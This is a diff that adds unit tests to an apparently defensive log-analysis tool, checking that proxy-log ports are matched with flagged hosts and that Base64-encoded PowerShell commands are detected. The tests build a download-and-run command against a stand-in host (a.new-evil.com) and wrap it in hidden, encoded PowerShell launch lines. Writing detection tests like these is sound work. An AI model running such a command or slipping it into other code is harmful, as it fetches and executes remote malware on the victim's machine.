@@ -81,6 +81,49 @@ public sealed class IndicatorFindingTests : IDisposable
         Assert.Equal(level, findings.SingleOrDefault()?.Rule.Level);
     }
 
+    // Blue Coat has the port of the host that was asked for in a column of its own.
+    [Theory]
+    [InlineData("8443", FindingLevel.Medium)]
+    [InlineData("443", null)]
+    public void The_port_of_a_proxys_request_goes_with_its_host(string port, FindingLevel? level)
+    {
+        string path = _folder.Add("proxy.log", $"""
+            #Software: SGOS 6.7.4.10
+            #Version: 1.0
+            #Fields: date time c-ip s-supplier-ip cs-method cs-host cs-uri-port cs-uri-path sc-status
+            2021-03-04 10:00:00 10.1.2.3 45.66.230.6 CONNECT 45.66.230.6 {port} / 200
+
+            """);
+        Finding[] findings = JudgeFile(path);
+        Assert.Equal(level, findings.SingleOrDefault()?.Rule.Level);
+        Assert.Equal(level is null ? [] : ["cs-host", "s-supplier-ip"], findings.SelectMany(static f => f.Matched).Select(static m => m.Field));
+    }
+
+    // What PowerShell is given in Base64 it runs as it is meant.
+    [Theory]
+    [InlineData("powershell -enc {16}", true)]
+    [InlineData("powershell.exe -NoP -w hidden -EncodedCommand \"{16}\"", true)]
+    [InlineData("powershell /e {16}", true)]
+    [InlineData("powershell -ec:{16}", true)]
+    [InlineData("powershell iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{8}')))", true)]
+    [InlineData("powershell -enc {twice}", false)]
+    [InlineData("tool --upload {16}", false)]
+    [InlineData("tool x-enc {16}", false)]
+    [InlineData("powershell -enc {16}{cut}", true)]
+    [InlineData("powershell -enc ========================================", false)]
+    public void A_command_in_Base64_is_read(string command, bool isFound)
+    {
+        const string script = "iwr https://a.new-evil.com/x -OutFile a.exe; .\\a.exe";
+        string wide = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
+        string text = command.Replace("{16}{cut}", wide[..^3], StringComparison.Ordinal).Replace("{16}", wide, StringComparison.Ordinal)
+            .Replace("{8}", Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(script)), StringComparison.Ordinal)
+            .Replace("{twice}", Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("powershell -enc " + wide)), StringComparison.Ordinal);
+
+        string[] found = [.. Judge(Log(("Image", text), ("CommandLine", text), ("Foo", text))).SelectMany(static f => f.Matched).Select(static m => m.Field)];
+
+        Assert.Equal(isFound ? ["CommandLine"] : [], found);
+    }
+
     [Fact]
     public void Each_list_and_each_indicator_is_a_finding_and_each_field_a_value()
     {
